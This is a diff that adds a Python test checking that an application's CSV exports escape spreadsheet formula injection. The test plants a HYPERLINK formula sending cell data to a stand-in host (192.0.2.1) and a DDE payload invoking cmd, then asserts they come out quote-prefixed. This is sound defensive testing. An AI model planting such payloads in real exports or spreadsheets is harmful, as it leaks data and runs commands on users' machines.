@@ -137,6 +137,23 @@ def test_accounts_stand_as_numbers(pool: Pool, settings: Settings, filled: Fille
     assert [one["changed_by"] for one in changes] == ["account gone", known["maria.curie"]]
 
 
+def test_no_cell_of_its_tables_is_a_formula(pool: Pool, settings: Settings, filled: Filled) -> None:
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+    with pool.transaction() as tx:
+        (label,) = repetitions.list_repetitions(tx, filled.session_id)
+        repetitions.update_repetition(tx, label.repetition_id, excluded=True, reason="@SUM(A1:A9)", changed_by="x")
+        execute(tx, "UPDATE gestures SET name = %s WHERE name = 'fist'", (formula,))
+        execute(tx, "UPDATE api_responses SET label = %s", ("+1+cmd|' /C calc'!A0",))
+    files = content(pool, settings, filled.user_id)
+    tables = {name: list(csv.reader(io.StringIO(text.decode()))) for name, text in files.items() if ".csv" in name}
+    cells = {cell for rows in tables.values() for row in rows for cell in row}
+    assert [one for one in cells if one.startswith(("=", "+", "@", "\t", "\r"))] == []
+    assert all(float(one) <= 0 for one in cells if one.startswith("-"))
+    assert {"'" + formula, "'@SUM(A1:A9)", "'+1+cmd|' /C calc'!A0"} <= cells
+    samples = tables[f"sessions/{filled.session_id}/samples.csv"]
+    assert samples[1][2:] == ["20", "-20"], "numbers stay numbers"
+
+
 def test_quality_senders_and_what_was_used_are_in_it(pool: Pool, settings: Settings, filled: Filled) -> None:
     files = content(pool, settings, filled.user_id)
     quality = json.loads(files[f"sessions/{filled.session_id}/quality.json"])
